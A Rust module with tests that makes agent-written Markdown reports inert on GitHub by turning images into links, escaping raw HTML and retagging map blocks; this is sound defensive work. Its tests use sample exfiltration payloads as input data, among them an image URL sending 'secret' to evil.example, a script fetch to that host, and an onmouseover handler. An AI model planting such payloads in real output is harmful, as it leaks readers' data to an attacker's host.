//! Markdown that renders without contacting any host: the reports the agent writes are read
//! on GitHub, where a remote image or raw HTML would load by itself (a tracking pixel, a
//! request to an attacker's host carrying data in its URL).
//!
//! [`neutralize`] finds, with a CommonMark parser (`pulldown-cmark`, GitHub-flavoured
//! options) rather than patterns, what would load or run:
//! - images, inline (`![alt](http://...)`) or by reference (`![alt][ref]`): turned into an
//!   ordinary link `[image: alt](url)`, which only loads when clicked;
//! - raw HTML, block or inline, any tag (`<img>`, `<script>`, `<iframe>`, `<picture>`,
//!   `<video>`, `<svg>`, `<a onmouseover=...>`, comments): its `<` becomes `&lt;`, so the
//!   tag shows as text;
//! - fenced code blocks GitHub renders as maps or 3D models (`geojson`, `topojson`, `stl`),
//!   which fetch map tiles: their info string becomes `text`, the content is untouched.
//!
//! Everything else (headings, lists, tables, emphasis, links, code) is left byte for byte,
//! and content inside code spans and code blocks is never changed. Undoing one construct
//! can expose another (HTML that hid an image), so the pass repeats until nothing is left;
//! if that has not happened after a few passes, the whole text is shown as a code block.

use std::ops::Range;

use pulldown_cmark::{CodeBlockKind, Event, Options, Parser, Tag};

/// How many passes [`neutralize`] makes before it falls back to a code block.
const MAX_PASSES: usize = 8;

/// Code block languages that GitHub renders with content loaded from elsewhere.
const LOADING_LANGUAGES: [&str; 3] = ["geojson", "topojson", "stl"];

/// `input` with every image, raw HTML and self-loading block made inert.
pub fn neutralize(input: &str) -> String {
    let mut current = input.to_owned();
    for _ in 0..MAX_PASSES {
        match pass(&current) {
            None => return current,
            Some(next) => current = next,
        }
    }
    as_code_block(&current)
}

/// Whether `input` renders without loading anything.
pub fn is_inert(input: &str) -> bool {
    pass(input).is_none()
}

fn options() -> Options {
    Options::ENABLE_TABLES
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_GFM
}

/// One edit: replace `range` of the source by `with`.
struct Edit {
    range: Range<usize>,
    with: String,
}

/// One neutralising pass; `None` when there was nothing to neutralise.
fn pass(input: &str) -> Option<String> {
    let mut edits: Vec<Edit> = Vec::new();
    for (event, range) in Parser::new_ext(input, options()).into_offset_iter() {
        match event {
            Event::Start(Tag::Image { .. }) => {
                if input[range.start..].starts_with("![") {
                    edits.push(Edit {
                        range: range.start..range.start + 2,
                        with: "[image: ".to_owned(),
                    });
                } else {
                    // Not where the parser should put an image; show the source as text.
                    edits.push(Edit {
                        with: escape_html(&input[range.clone()]).replace('!', "&#33;"),
                        range,
                    });
                }
            }
            Event::Html(_) | Event::InlineHtml(_) => {
                let source = &input[range.clone()];
                if source.contains('<') {
                    edits.push(Edit {
                        with: escape_html(source),
                        range,
                    });
                }
            }
            Event::Start(Tag::CodeBlock(CodeBlockKind::Fenced(info))) => {
                let language = info.split_whitespace().next().unwrap_or_default();
                if LOADING_LANGUAGES
                    .iter()
                    .any(|l| l.eq_ignore_ascii_case(language))
                {
                    let first_line_end = input[range.clone()]
                        .find('\n')
                        .map_or(range.end, |i| range.start + i);
                    if let Some(at) = input[range.start..first_line_end].find(language) {
                        let start = range.start + at;
                        edits.push(Edit {
                            range: start..start + language.len(),
                            with: "text".to_owned(),
                        });
                    }
                }
            }
            _ => {}
        }
    }
    if edits.is_empty() {
        return None;
    }
    edits.sort_by_key(|e| e.range.start);
    let mut out = String::with_capacity(input.len() + edits.len() * 8);
    let mut last = 0;
    for edit in edits {
        // Nested events (HTML inside an image's alt text) may overlap: the next pass
        // sees whatever the first edit left.
        if edit.range.start < last {
            continue;
        }
        out.push_str(&input[last..edit.range.start]);
        out.push_str(&edit.with);
        last = edit.range.end;
    }
    out.push_str(&input[last..]);
    Some(out)
}

/// Raw HTML shown as text: its `<` can no longer open a tag.
fn escape_html(source: &str) -> String {
    source.replace('<', "&lt;")
}

/// The whole text as a fenced code block, with a fence longer than any backtick run in it.
fn as_code_block(text: &str) -> String {
    let longest = text.split(|c| c != '`').map(str::len).max().unwrap_or(0);
    let fence = "`".repeat(longest.max(2) + 1);
    format!("{fence}text\n{text}\n{fence}\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn assert_inert(input: &str) -> String {
        let out = neutralize(input);
        assert!(is_inert(&out), "still loads something:\n{out}");
        assert_eq!(neutralize(&out), out, "neutralising twice changed it");
        for event in Parser::new_ext(&out, options()) {
            assert!(
                !matches!(
                    event,
                    Event::Start(Tag::Image { .. }) | Event::Html(_) | Event::InlineHtml(_)
                ),
                "{event:?} left in:\n{out}"
            );
        }
        out
    }

    #[test]
    fn images_become_links() {
        assert_eq!(
            assert_inert("see ![graph](https://evil.example/p.png?d=secret) here"),
            "see [image: graph](https://evil.example/p.png?d=secret) here"
        );
        assert_eq!(
            assert_inert("![](http://x/y.gif \"t\")"),
            "[image: ](http://x/y.gif \"t\")"
        );
        let reference = "![logo][l]\n\n[l]: https://evil.example/l.png\n";
        assert_eq!(
            assert_inert(reference),
            "[image: logo][l]\n\n[l]: https://evil.example/l.png\n"
        );
        // An image inside a link, and a link around an image.
        assert_inert("[![badge](https://x/b.svg)](https://x)");
        assert_inert("![a ![b](http://x/b.png)](http://x/a.png)");
    }

    #[test]
    fn raw_html_is_shown_as_text() {
        for html in [
            "<img src=\"https://evil.example/p.png\">",
            "<script>fetch('https://evil.example')</script>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<picture><source srcset=\"https://x/a.webp\"></picture>",
            "<video src=\"https://x/v.mp4\" autoplay></video>",
            "<svg><image href=\"https://x/i.png\"/></svg>",
            "<details><summary>x</summary>\n\n![i](https://x/i.png)\n\n</details>",
            "<!-- hidden -->",
        ] {
            let out = assert_inert(html);
            assert!(out.contains("&lt;"), "{out}");
        }
        let out = assert_inert("text <a href=\"https://x\" onmouseover=\"alert(1)\">x</a> more");
        assert_eq!(
            out,
            "text &lt;a href=\"https://x\" onmouseover=\"alert(1)\">x&lt;/a> more"
        );
        // HTML that hid Markdown: once escaped, the image inside becomes visible and is
        // neutralised in the next pass.
        let out = assert_inert("<div>\n![x](https://evil.example/x.png)\n</div>\n");
        assert!(out.contains("[image: x]"), "{out}");
    }

    #[test]
    fn ordinary_markdown_is_untouched() {
        let doc = "# Findings\n\n## etcd\n\n- slow fsync (p99 **120ms**)\n- 3 _members_\n  1. nested\n\n| Pod | Status |\n|---|---|\n| etcd-0 | `CrashLoopBackOff` |\n\nSee [the runbook](https://docs.example.com/etcd) and <https://docs.example.com>.\n\n```yaml\nimage: <img src=x>\n```\n\nInline `<script>` and `![i](http://x/i.png)` stay.\n\n> quoted ~~old~~ text\n\n- [x] done\n";
        assert_eq!(neutralize(doc), doc);
        assert!(is_inert(doc));
    }

    #[test]
    fn map_blocks_lose_their_renderer_but_keep_their_content() {
        let doc = "```geojson\n{\"type\": \"Point\", \"coordinates\": [1, 2]}\n```\n";
        assert_eq!(
            assert_inert(doc),
            "```text\n{\"type\": \"Point\", \"coordinates\": [1, 2]}\n```\n"
        );
    }

    #[test]
    fn the_fallback_is_a_code_block() {
        let out = as_code_block("a ``` b");
        assert!(out.starts_with("````text\n"), "{out}");
        assert!(is_inert(&out));
    }
}
